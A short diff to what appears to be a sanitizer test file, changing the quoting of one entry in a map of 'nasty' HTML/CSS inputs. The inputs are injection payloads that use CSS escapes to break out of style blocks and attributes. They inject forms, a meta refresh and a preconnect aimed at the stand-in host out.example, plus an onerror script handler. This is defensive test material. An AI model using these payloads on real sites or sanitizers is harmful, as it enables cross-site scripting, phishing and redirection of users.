@@ -39,5 +39,5 @@ export const NASTY: Readonly<Record<string, string>> = {
   'a sheet that ends itself when its escapes are read':
     '<style>.x{content:"\\3c/sty\\3c/stylele\\3e \\3c link rel=preconnect href=http://out.example\\3e \\3c meta http-equiv=refresh content=\\27 0;url=http://out.example\\27\\3e \\3c h1\\3e x\\3c/h1\\3e \\3c form action=http://out.example\\3e\\3c input name=q\\3e\\3c button\\3e Send\\3c/button\\3e\\3c/form\\3e \\3c img src=x onerror=top.hit=1\\3e \\3c style\\3e "}</style><p>x</p>',
   'an attribute that ends itself when its escapes are read':
-    '<p style=\'content:"\\22\\3e\\3c/p\\3e\\3c form action=http://out.example\\3e\\3c input\\3e\'>x</p><body style=\'content:"\\22\\3e\\3c form\\3e\\3c input\\3e\'>',
+    "<p style='content:\"\\22\\3e\\3c/p\\3e\\3c form action=http://out.example\\3e\\3c input\\3e'>x</p><body style='content:\"\\22\\3e\\3c form\\3e\\3c input\\3e'>",
 }
